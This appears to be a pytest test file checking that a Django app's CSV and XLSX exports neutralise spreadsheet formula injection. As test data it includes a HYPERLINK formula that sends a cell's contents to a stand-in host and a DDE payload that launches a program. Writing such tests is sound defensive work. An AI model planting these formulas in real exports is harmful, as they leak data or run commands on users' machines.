"""Exports never carry a live spreadsheet formula (issue 15, finding 3; OWASP "CSV injection")."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from mantelkring.exports import csv_bytes, neutralise, xlsx_bytes
from panel.models import Registration
from sociale_kaart.models import Organisation
from tests.panel.factories import PanelMemberFactory, SpiegelgesprekFactory
from tests.werkgroep.factories import ActionPointFactory, make_poll

HOSTILE = '=HYPERLINK("http://example.invalid/?"&B2,"Klik hier")'
STARTS = ["=1+1", "+31 6", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


@pytest.mark.parametrize("text", STARTS)
def test_text_that_a_spreadsheet_would_run_gets_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Folder", "", "1 = 1", 3, -3, 2.5, None])
def test_ordinary_values_stay_as_they_are(value):
    assert neutralise(value) == value


def test_the_writers_neutralise_every_cell():
    sheets = [("Blad", [["Kop", "Getal"], [HOSTILE, -4]])]
    rows = list(csv.reader(io.StringIO(csv_bytes(sheets).decode("utf-8-sig")), delimiter=";"))
    assert rows[-1] == ["'" + HOSTILE, "-4"]
    book = load_workbook(io.BytesIO(xlsx_bytes(sheets)))
    cell, number = book["Blad"]["A2"], book["Blad"]["B2"]
    assert cell.value == "'" + HOSTILE and cell.data_type == "s"
    assert number.value == -4


def _xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]


@pytest.fixture
def hostile_action_point(db):
    owner = Organisation.objects.create(name="@Zorg+Welzijn")
    return ActionPointFactory(title=HOSTILE, owner=owner)


def test_an_action_point_title_is_no_formula_in_the_xlsx_export(
    client, werkgroep_user, hostile_action_point
):
    client.force_login(werkgroep_user)
    cells = _xlsx_cells(client.get(reverse("werkgroep:export_actions", args=["xlsx"])).content)
    assert not [c for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert "'" + HOSTILE in values
    assert "'@Zorg+Welzijn" in values


def test_an_action_point_title_is_no_formula_in_the_csv_export(
    client, werkgroep_user, hostile_action_point
):
    client.force_login(werkgroep_user)
    body = client.get(reverse("werkgroep:export_actions", args=["csv"])).content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body), delimiter=";") for cell in row]
    assert "'" + HOSTILE in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_poll_question_and_choice_texts_are_no_formulas(client, werkgroep_user, fmt):
    poll = make_poll(title="=cmd|' /C calc'!A0")
    question = poll.questions.order_by("order").first()
    question.text = "+SUM(1,2)"
    question.save()
    choice = question.choices.first()
    choice.text = "-1+1"
    choice.save()
    client.force_login(werkgroep_user)
    content = client.get(reverse("werkgroep:export_poll", args=[poll.pk, fmt])).content
    if fmt == "xlsx":
        cells = _xlsx_cells(content)
        assert not [c for c in cells if c.data_type == "f"]
        values = [c.value for c in cells]
    else:
        reader = csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";")
        values = [cell for row in reader for cell in row]
    assert "'+SUM(1,2)" in values
    assert "'-1+1" in values


def test_my_data_csv_holds_no_formula(client, caregiver):
    member = PanelMemberFactory(user=caregiver)
    gesprek = SpiegelgesprekFactory()
    Registration.objects.create(
        gesprek=gesprek, user=caregiver, kind="caregiver", status="registered", topics=HOSTILE
    )
    assert member.user == caregiver
    client.force_login(caregiver)
    body = client.get(reverse("panel:export_csv")).content.decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'" + HOSTILE in cells
    assert HOSTILE not in cells
